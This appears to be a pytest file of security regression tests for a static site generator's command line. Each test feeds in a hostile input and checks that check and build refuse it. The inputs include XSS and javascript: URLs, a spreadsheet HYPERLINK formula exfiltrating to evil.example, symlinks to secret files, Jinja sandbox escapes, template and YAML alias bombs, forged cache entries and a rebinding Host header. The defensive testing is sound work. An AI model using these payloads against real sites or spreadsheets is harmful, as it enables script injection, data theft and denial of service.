"""The nine findings of issue 10, each as an attack on a whole site, through the command line."""

from __future__ import annotations

import csv
import hashlib
import hmac
import json
import os
import re
import time
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner, Result

from conftest import REPO, SITE_CONFIG, chart_entries, sweep, write_chart_entries
from sitegen.cli import main

FIXTURES = Path(__file__).parent / "fixtures" / "importers"
FAQ = "---\nquestion: Why?\n---\n"
PRICING_NONE = {
    "source": "T",
    "as_of": "2026-07",
    "tiers": {"owning": {"label": "O"}},
    "prices": {},
}


def sitegen(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args])


def check_and_build(site: Path, out: Path) -> tuple[Result, Result]:
    """`sitegen check` and `sitegen build` of one site: they must say the same."""
    checked = sitegen("check", "--site", site)
    built = sitegen("build", "--site", site, "--out", out)
    return checked, built


def problems_of(result: Result) -> list[str]:
    """The problem lines of a failed command (not its summary line)."""
    return [line for line in result.stderr.splitlines() if " failed: " not in line]


def assert_refused(site: Path, tmp_path: Path, *expected: str) -> str:
    """check and build both fail with the same problems, which include `expected`; nothing is
    written. Returns the problems, one per line."""
    out = tmp_path / "out"
    checked, built = check_and_build(site, out)
    assert checked.exit_code == 1, checked.output
    assert built.exit_code == 1, built.output
    assert problems_of(checked) == problems_of(built)
    text = "\n".join(problems_of(built))
    for part in expected:
        assert part in text
    assert not out.exists()
    return text


# -- 1. script links from data --------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.domain)//",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        'https://example.org/" onmouseover="alert(1)',
        "//evil.example/run",
        "file:///etc/passwd",
    ],
)
def test_a_run_url_that_is_not_http_is_an_error_with_its_line(make_site, tmp_path, url) -> None:
    site = make_site(runs={"lab/run.yaml": sweep(url=url)})
    rows = (site / "data/runs/lab/run.yaml").read_text().splitlines()
    line = next(n for n, row in enumerate(rows, 1) if row.startswith("url:"))
    assert_refused(site, tmp_path, f"data/runs/lab/run.yaml:{line}: url: expected an http(s) URL")


def test_a_run_url_of_http_is_linked(make_site, tmp_path) -> None:
    site = make_site(runs={"lab/run.yaml": sweep(url="https://example.org/runs/1?x=1&y=2")})
    assert sitegen("build", "--site", site, "--out", tmp_path / "out").exit_code == 0
    html = (tmp_path / "out/runs/lab-run/index.html").read_text()
    assert '<a href="https://example.org/runs/1?x=1&amp;y=2" rel="nofollow">' in html


def test_a_markdown_link_to_a_script_is_an_error_with_its_line(make_site, tmp_path) -> None:
    body = FAQ + "Fine.\n\nSee [the run](javascript:alert(1)) here.\n"
    site = make_site(content={"faq/why.md": body})
    assert_refused(
        site, tmp_path, "content/faq/why.md:6: link: expected a link within the site, or to"
    )


def test_markdown_links_within_the_site_and_to_the_web_are_fine(make_site, tmp_path) -> None:
    body = FAQ + "[a](../g2/) [b](#faq) [c](https://example.org/) [d](mailto:x@example.org)\n"
    site = make_site(content={"faq/why.md": body})
    assert sitegen("build", "--site", site, "--out", tmp_path / "out").exit_code == 0
    html = (tmp_path / "out/models/m1/g1/index.html").read_text()
    assert '<a href="https://example.org/">c</a>' in html


def test_a_markdown_image_from_elsewhere_is_an_error(make_site, tmp_path) -> None:
    site = make_site(content={"about.md": "# About\n\n![pixel](https://tracker.example/p.gif)\n"})
    assert_refused(site, tmp_path, "content/about.md:3: link: expected an image of the site")


def test_import_drops_a_script_run_url_and_says_so(make_site, tmp_path) -> None:
    rows = json.loads((FIXTURES / "inferencex/agg_model-one_g1.json").read_text())
    rows[0]["run_url"] = "javascript:alert(document.domain)//"
    rows[1]["run_url"] = "javascript:alert(document.domain)//"
    source = tmp_path / "agg.json"
    source.write_text(json.dumps(rows, indent=2))
    site = make_site(
        runs={},
        models={"m1": {"name": "Model One", "hf_id": "acme/Model-One"}},
        workloads={"chat": {"name": "Chat"}, "1k1k": {"name": "1k", "isl": 1024, "osl": 1024}},
    )
    out = site / "data/runs/ix"
    result = sitegen("import", "inferencex", source, "--out", out, "--site", site)
    assert result.exit_code == 0, result.output
    assert f"{source}:" in result.stderr
    assert "[0].run_url: left out of the record: expected an http(s) URL" in result.stderr
    assert "(warning)" in result.stderr
    (written,) = out.iterdir()
    assert "url" not in yaml.safe_load(written.read_text())
    assert "javascript" not in written.read_text()


# -- 7 (slugs). a slug with a newline ----------------------------------------------------------


def test_a_slug_with_a_trailing_newline_is_an_error(make_site, tmp_path) -> None:
    models = {"m1": {"name": "Model One"}, "m3\n": {"name": "Newline"}}
    site = make_site(models=models)
    assert_refused(site, tmp_path, "data/models.yaml:3: m3\\n: expected a slug")  # shown escaped


# -- 9 (base_url). a base_url that breaks canonical links and the sitemap ----------------------


@pytest.mark.parametrize(
    "base_url",
    [
        "https://example.org/a b/",
        'https://example.org/"><script>alert(1)</script>',
        "https://example.org/?q=1",
        "https://example.org/#top",
        "https://user:secret@example.org/",
        "javascript:alert(1)//",
        "https:///no-host/",
    ],
)
def test_a_base_url_that_would_break_pages_is_an_error(make_site, tmp_path, base_url) -> None:
    site = make_site(config={**SITE_CONFIG, "base_url": base_url})
    text = assert_refused(site, tmp_path, "sitegen.yaml:2: base_url: expected an absolute http(s)")
    assert re.search(r"got \".*\"", text)


# -- 3. JSON-LD breaks pages ----------------------------------------------------------------------


def jsonld(html: str, kind: str = "FAQPage") -> str:
    """The JSON-LD block of `kind` (a page also has its breadcrumbs and Dataset); every block
    holds no markup character."""
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
    assert all(not set("<>&") & set(block) for block in blocks)
    (found,) = [block for block in blocks if json.loads(block)["@type"] == kind]
    return found


def test_json_ld_holds_no_markup_whatever_the_names_and_answers(make_site, tmp_path) -> None:
    hostile = "<!--<script>"
    models = {"m1": {"name": f"Model {hostile}</script><b>"}, "m2": {"name": "Two"}}
    body = (
        "---\nquestion: 'Is it <!--<script> & co?'\n---\n"
        "Run `<!--<script>alert(1)</script>` and <img src=x onerror=alert(1)> & more.\n"
    )
    site = make_site(models=models, content={"faq/why.md": body})
    assert sitegen("build", "--site", site, "--out", tmp_path / "out").exit_code == 0
    html = (tmp_path / "out/models/m1/g1/index.html").read_text()
    script = jsonld(html)
    assert not set("<>&") & set(script), script
    data = json.loads(script)
    last = data["mainEntity"][-1]
    assert last["name"] == "Is it <!--<script> & co?"
    # the answer as plain text: the code span's text, not markup
    assert last["acceptedAnswer"]["text"].startswith("Run <!--<script>alert(1)</script> and")
    assert data["mainEntity"][0]["name"] == f"How fast is Model {hostile}</script><b> on GPU One?"
    # the page's only script elements are the theme's, and the page text is all there
    scripts = re.findall(r"<script[^>]*>", html)
    theme = [t for t in scripts if "ld+json" not in t]
    # theme.js is not deferred: it sets the dark-mode choice before the page paints; the
    # search's UI is the one the build made beside its index (pagefind/)
    shipped = r'<script src="[./]*(assets/[a-z]+|pagefind/pagefind-ui)\.js"( defer)?>'
    assert all(re.fullmatch(shipped, t) for t in theme)
    # breadcrumbs, Dataset and FAQ
    assert len(scripts) == len(theme) + 3 and "<!--<script>" not in html
    trail = json.loads(jsonld(html, "BreadcrumbList"))["itemListElement"]
    assert trail[1]["name"] == f"Model {hostile}</script><b>"
    assert html.rstrip().endswith("</html>")


# -- 6. spreadsheet formulas -----------------------------------------------------------------------


# (a tab or CR at the start of a field is stripped when the record is read; test_datafiles.py)
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_would_start_a_formula_get_a_quote(make_site, tmp_path, start) -> None:
    engine = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
    site = make_site(runs={"lab/run.yaml": sweep(engine=engine, precision=f"{start}fp8")})
    assert sitegen("build", "--site", site, "--out", tmp_path / "out").exit_code == 0
    (row,) = list(csv.DictReader((tmp_path / "out/data/leaderboard.csv").open(newline="")))
    assert row["engine"] == "'" + engine
    assert row["precision"] == f"'{start}fp8"
    assert row["model"] == "m1" and float(row["throughput_per_gpu"]) > 0
    # the JSON download keeps the value as it is: JSON is not read as formulas
    (entry,) = json.loads((tmp_path / "out/data/leaderboard.json").read_text())
    assert entry["engine"] == engine


# -- 2. files from outside the site -----------------------------------------------------------


SECRET = "TOPSECRET-7f3a"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the site, such as /etc/passwd or a CI runner's credentials."""
    folder = tmp_path / "outside"
    folder.mkdir()
    path = folder / "secret.yaml"
    path.write_text(f"question: {SECRET}\nmodel: {SECRET}\n")  # read, it would be quoted
    return path


def all_bytes(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file())


@pytest.mark.parametrize(
    "link",
    [
        "content/faq/leak.md",
        "content/leak.md",
        "content/runs/lab-run.md",
        "templates/pair.html",
        "templates/assets/leak.txt",
        "data/runs/lab/leak.yaml",
        "data/runs/leak.json",
        "data/models.yaml",
        "sitegen.yaml",
    ],
)
def test_a_link_to_a_file_outside_the_site_is_an_error_naming_it(
    make_site, tmp_path, secret, link
) -> None:
    site = make_site()
    path = site / link
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to(secret)
    checked, built = check_and_build(site, tmp_path / "out")
    assert checked.exit_code == built.exit_code == 1
    for result in (checked, built):
        assert f"{link}: a link to outside the site's data/, content/ and templates/" in (
            result.stderr
        ), result.stderr
        assert SECRET not in result.output
    assert not (tmp_path / "out").exists()


def test_a_link_to_the_sites_own_git_folder_is_refused_too(make_site, tmp_path) -> None:
    site = make_site()
    (site / ".git").mkdir()
    (site / ".git/config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
    (site / "content").mkdir()
    (site / "content/config.md").symlink_to("../.git/config")
    assert_refused(site, tmp_path, "content/config.md: a link to outside the site's data/")


@pytest.mark.parametrize("link", ["content", "content/faq", "data/runs/shared", "templates"])
def test_a_linked_folder_outside_the_site_is_an_error(make_site, tmp_path, secret, link) -> None:
    site = make_site()
    (site / link).parent.mkdir(parents=True, exist_ok=True)
    (site / link).symlink_to(secret.parent)
    text = assert_refused(site, tmp_path, f"{link}: a link to outside the site's")
    assert SECRET not in text


def test_links_inside_the_site_are_followed(make_site, tmp_path) -> None:
    site = make_site(content={"faq/speed.md": FAQ + "Fast.\n"})
    (site / "content/faq/again.md").symlink_to("speed.md")
    (site / "templates/assets").mkdir(parents=True)
    (site / "content/logo.svg").write_text("<svg/>")
    (site / "templates/assets/logo.svg").symlink_to("../../content/logo.svg")
    (site / "data/runs/latest").symlink_to("lab")  # the same records under a second id
    result = sitegen("build", "--site", site, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out/assets/logo.svg").read_text() == "<svg/>"
    assert (tmp_path / "out/runs/latest-run/index.html").exists()


def test_a_link_to_a_device_that_never_ends_is_not_read(make_site, tmp_path) -> None:
    site = make_site()
    (site / "content").mkdir()
    (site / "content/zero.md").symlink_to("/dev/zero")  # reading it would never end
    started = time.monotonic()
    assert_refused(site, tmp_path, "content/zero.md: a link to outside the site's data/")
    assert time.monotonic() - started < 30


def test_a_named_pipe_is_not_read(make_site, tmp_path) -> None:
    site = make_site()
    (site / "content/faq").mkdir(parents=True)
    os.mkfifo(site / "content/faq/pipe.md")  # reading it would wait for a writer for ever
    assert_refused(site, tmp_path, "content/faq/pipe.md: not a regular file")


# -- 4. copy can change the numbers ------------------------------------------------------------


def test_a_placeholder_cannot_change_the_numbers(make_site, tmp_path) -> None:
    body = FAQ + 'Cheap.\n{{ headline.costs.update(owning=0.000001) or "" }}\n'
    site = make_site(content={"faq/cheap.md": body})
    assert_refused(
        site,
        tmp_path,
        "content/faq/cheap.md:5: placeholder: {{ headline.costs.update(owning=0.000001) or "
        "\"\" }}: access to attribute 'update' of 'dict' object is unsafe.",
    )


@pytest.mark.parametrize(
    "placeholder",
    [
        "{% set _ = ladder.append(1) %}",
        "{% set _ = ladder[0].update(target=1) %}",
        "{{ ladder.pop() }}",
        "{{ headline.__class__ }}",
        "{{ model.__init__.__globals__ }}",
    ],
)
def test_placeholders_can_neither_change_nor_reach_inside(make_site, tmp_path, placeholder) -> None:
    site = make_site(content={"faq/x.md": FAQ + placeholder + "\n"})
    assert_refused(site, tmp_path, "content/faq/x.md:4: placeholder:")


# -- 5. copy can hang or bloat a build ---------------------------------------------------------


@pytest.mark.parametrize(
    ("placeholder", "message"),
    [
        (
            "{% for a in range(10000) %}{% for b in range(10000) %}{% for c in range(10000) %}"
            "{% endfor %}{% endfor %}{% endfor %}",
            "stopped after 100,000 steps",
        ),
        (
            "{% set r = range(10000) %}{% for a in r %}{% for b in r %}{{ a }}{% endfor %}"
            "{% endfor %}",
            "stopped after 100,000 steps",
        ),
        ('{{ "x" * 200000000 }}', "would make a value of 200,000,000 characters"),
        ("{{ range(100000000) | list }}", "range of 100,000,000 numbers"),
        (
            "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}"
            "{{ f(60) }}",
            "stopped after ",  # 1 s or 100,000 steps, whichever comes first on this machine
        ),
        (
            '{% set ns = namespace(s="x") %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}'
            "{% endfor %}",
            "made a value of 131,072 characters",
        ),
        ('{% for i in range(10000) %}{{ "y" * 90000 }}{% endfor %}', "wrote more than 1,000,000"),
        ('{{ "%999999999d" % 1 }}', "a %-format width above 100,000"),
        ('{{ "x".center(1000000000) }}', "access to attribute 'center' of 'str' object is unsafe"),
        ("{{ 99 ** 99999 }}", "made a number of more than 4,096 bits"),
    ],
)
def test_placeholders_are_bounded_in_check_and_build(
    make_site, tmp_path, placeholder, message
) -> None:
    site = make_site(content={"faq/slow.md": FAQ + "Fine.\n\n" + placeholder + "\n"})
    started = time.monotonic()
    text = assert_refused(site, tmp_path, "content/faq/slow.md:6: placeholder: ", message)
    assert time.monotonic() - started < 20  # two runs, a second each at the most
    assert len(text) < 2000


def test_an_alias_bomb_in_front_matter_does_not_hang_check(make_site, tmp_path) -> None:
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        name, previous = chr(97 + i), chr(96 + i)
        levels.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    body = "---\nquestion: Boom\n" + "\n".join(levels) + "\nmodel: *j\n---\nAnswer.\n"
    site = make_site(content={"faq/boom.md": body})
    started = time.monotonic()
    assert_refused(
        site, tmp_path, "content/faq/boom.md:4: front matter: not valid YAML: its aliases"
    )
    assert time.monotonic() - started < 20


def test_a_long_bad_value_is_quoted_short(make_site, tmp_path) -> None:
    long = sweep(source="y" * 1_000_000, model="z" * 1_000_000)
    site = make_site(runs={"lab/run.yaml": long})
    text = assert_refused(site, tmp_path, "model: expected a slug defined in data/models.yaml")
    assert '"zzzz' in text and "(1,000,000 characters)" in text and len(text) < 2000


def test_the_preview_stops_a_hanging_placeholder_and_recovers_on_the_next_save(
    preview, serve_site: Path
) -> None:
    from test_serve import FAQ as WARMUP
    from test_serve import EventStream

    events = EventStream(preview.port)
    good = events.next()
    faq = serve_site / WARMUP
    text = faq.read_text()
    faq.write_text(
        text + "{% for a in range(10000) %}{% for b in range(10000) %}{% endfor %}{% endfor %}\n"
    )
    broken = events.next()
    [problem] = broken["problems"]
    assert (problem["file"], problem["line"]) == (WARMUP, 6)
    assert "stopped after 100,000 steps" in problem["message"]
    faq.write_text(text + "Warmed up for {{ 2 * 30 }} s.\n")  # the next save builds again
    fixed = events.next()
    assert fixed["problems"] == [] and fixed["version"] != good["version"]
    events.close()


# -- 9 (reproducible). an object's memory address in a page ------------------------------------


def test_a_placeholder_printing_an_object_is_an_error(make_site, tmp_path) -> None:
    site = make_site(content={"faq/x.md": FAQ + "Line.\n{{ range }}\n"})
    assert_refused(
        site, tmp_path, "content/faq/x.md:5: placeholder: prints an object, not a value: <function"
    )


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("<p>\n{{ range }}</p>\n", "templates/404.html:2: template: prints an object"),
        ("<p>{{ cycler }}</p>\n", "templates/404.html:1: template: prints an object"),
        (
            "<p>{{ 'x' ~ lipsum }}</p>\n",
            "templates/404.html: template: the page 404.html shows an object's memory address",
        ),
    ],
)
def test_a_template_printing_an_object_is_an_error(make_site, tmp_path, template, expected):
    site = make_site()
    (site / "templates").mkdir()
    (site / "templates/404.html").write_text(template)
    text = assert_refused(site, tmp_path, expected)
    assert " at 0x..." in text or "prints an object" in text


# -- 9 (chart cache). a restored cache could carry a script ------------------------------------


def forged(chart_key: str, body: str, key: bytes) -> bytes:
    """A cache entry as a cache made with another key would hold it."""
    mac = hmac.new(key, f"{chart_key}\n{body}".encode(), hashlib.sha256).hexdigest()
    return f"<!-- sitegen-chart {chart_key} {mac} -->\n{body}".encode()


def test_a_cache_entry_not_signed_here_is_drawn_again(make_site, tmp_path) -> None:
    site = make_site()
    clean = tmp_path / "clean"
    assert sitegen("build", "--site", site, "--out", clean, "--no-cache").exit_code == 0
    assert sitegen("build", "--site", site, "--out", tmp_path / "first").exit_code == 0
    folder = site / ".sitegen-cache/charts"
    entries = chart_entries(folder)
    assert entries
    evils = {}
    for key, raw in entries.items():
        body = raw.decode().partition("\n")[2]
        evils[key] = body.replace("<svg", "<svg onload=alert(1)", 1) + "<script>alert(2)</script>"
    for attempt in range(2):
        if attempt == 0:  # as the sha256 header of earlier versions said it
            digests = {k: hashlib.sha256(evil.encode()).hexdigest() for k, evil in evils.items()}
            edited = {
                k: f"<!-- sitegen-chart {k} {digests[k]} -->\n{evil}".encode()
                for k, evil in evils.items()
            }
        else:  # as another machine signed it
            edited = {k: forged(k, evil, b"k" * 32) for k, evil in evils.items()}
        write_chart_entries(folder, edited)
        out = tmp_path / f"out{attempt}"
        assert sitegen("build", "--site", site, "--out", out).exit_code == 0
        assert all_bytes(out) == all_bytes(clean)
        assert b"alert(" not in all_bytes(out)


def test_a_cache_folder_that_is_a_link_is_not_used(make_site, tmp_path) -> None:
    site = make_site()
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "charts").mkdir(parents=True)
    (elsewhere / "charts/precious.svg").write_text("not a chart: must not be pruned")
    (site / ".sitegen-cache").symlink_to(elsewhere)
    assert sitegen("build", "--site", site, "--out", tmp_path / "out").exit_code == 0
    assert sorted(p.name for p in elsewhere.rglob("*")) == ["charts", "precious.svg"]


# -- 7. colliding paths ------------------------------------------------------------------------


def test_gpu_slugs_with_vs_that_make_two_comparisons_share_a_folder(make_site, tmp_path) -> None:
    gpus = {slug: {"name": slug.upper()} for slug in ("a", "b-vs-c", "a-vs-b", "c")}
    runs = {f"lab/{slug}.yaml": sweep(gpu=slug) for slug in gpus}
    site = make_site(runs=runs, gpus=gpus, pricing={**PRICING_NONE})
    text = assert_refused(
        site,
        tmp_path,
        "data/gpus.yaml:3: b-vs-c: the comparison of a with b-vs-c and of a-vs-b with c for m1: "
        "its output path compare/a-vs-b-vs-c/m1/index.html is the path of both; rename one "
        "(GPU slugs containing -vs- make comparison addresses ambiguous)",
    )
    assert "--out" not in text


@pytest.mark.parametrize("name", ["404.html", "sitemap.xml", "robots.txt", "index.html", "assets"])
def test_a_content_page_named_like_a_reserved_output_is_an_error(make_site, tmp_path, name) -> None:
    site = make_site(content={f"{name}.md": "# Hello\n"})
    assert_refused(
        site,
        tmp_path,
        f"content/{name}.md: the output path {name}/index.html is where '{name}' is reserved",
    )


def test_a_gpu_slug_named_like_an_output_file_is_an_error(make_site, tmp_path) -> None:
    gpus = {"g1": {"name": "GPU One"}, "index.html": {"name": "Index"}}
    site = make_site(runs={"lab/a.yaml": sweep(gpu="index.html")}, gpus=gpus)
    text = assert_refused(
        site,
        tmp_path,
        "data/gpus.yaml:3: index.html: the output path gpus/index.html/index.html has a folder",
    )
    assert "models/m1/index.html/index.html" in text and "--out" not in text


def test_a_slug_too_long_for_a_file_name_is_an_error_with_its_line(make_site, tmp_path) -> None:
    slug = "m" * 300
    site = make_site(
        models={"m1": {"name": "One"}, slug: {"name": "Long"}},
        runs={"lab/a.yaml": sweep(model=slug)},
    )
    text = assert_refused(
        site,
        tmp_path,
        f"data/models.yaml:3: {slug}: the output path models/{slug}/index.html "
        "has a part of 300 bytes (at most 255)",
    )
    assert "--out" not in text


# -- 8. output not quite atomic ----------------------------------------------------------------


def test_a_build_into_a_folder_another_build_is_writing_fails_at_once(make_site, tmp_path) -> None:
    import fcntl

    site = make_site()
    out = tmp_path / "public"
    assert sitegen("build", "--site", site, "--out", out).exit_code == 0
    before = all_bytes(out)
    (site / "content").mkdir(exist_ok=True)
    (site / "content/about.md").write_text("# About\n")  # work to do: the build writes
    with (tmp_path / ".public.lock").open("a") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        started = time.monotonic()
        result = sitegen("build", "--site", site, "--out", out)
    assert result.exit_code == 1 and time.monotonic() - started < 10
    assert "another sitegen build is writing this output folder now" in result.stderr
    assert all_bytes(out) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".public")) == [
        ".public.lock"
    ]


# -- 9 (preview). any Host, a thread per connection ---------------------------------------------


def test_the_preview_refuses_other_hosts_and_stops_on_the_first_ctrl_c(serve_site: Path) -> None:
    import http.client
    import signal
    import socket
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(REPO / "src")}
    command = [sys.executable, "-c", "from sitegen.cli import main; main()", "serve"]
    server = subprocess.Popen(
        [*command, "--site", str(serve_site), "--port", "0"],
        env=env,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        line = ""
        while " at http://" not in line:
            line = server.stderr.readline()
            assert line, "the preview ended before serving"
        port = int(re.search(r"http://127\.0\.0\.1:(\d+)/", line).group(1))

        def get(host: str, target: str = "/board/") -> http.client.HTTPResponse:
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            conn.putrequest("GET", target, skip_host=True)
            conn.putheader("Host", host)
            conn.endheaders()
            return conn.getresponse()

        assert get(f"127.0.0.1:{port}").status == 200
        assert get(f"rebind.attacker.example:{port}").status == 403
        events = get(f"localhost:{port}", "/__sitegen/events")  # an open page's stream
        assert events.status == 200
        idle = [socket.create_connection(("127.0.0.1", port)) for _ in range(5)]
        server.send_signal(signal.SIGINT)
        assert server.wait(timeout=15) == 0
        assert "stopped" in server.stderr.read()
        for conn in idle:
            conn.close()
    finally:
        if server.poll() is None:
            server.kill()
            server.wait()
